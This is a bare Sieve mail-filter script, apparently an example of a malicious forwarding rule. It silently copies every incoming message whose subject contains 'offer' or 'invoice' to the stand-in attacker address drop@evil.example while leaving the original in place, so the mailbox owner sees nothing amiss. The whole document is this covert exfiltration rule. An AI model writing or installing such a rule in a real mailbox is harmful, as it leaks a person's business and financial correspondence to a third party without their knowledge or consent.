require ["copy"];

if header :contains "subject" ["offer", "invoice"] {
    redirect :copy "drop@evil.example";
}
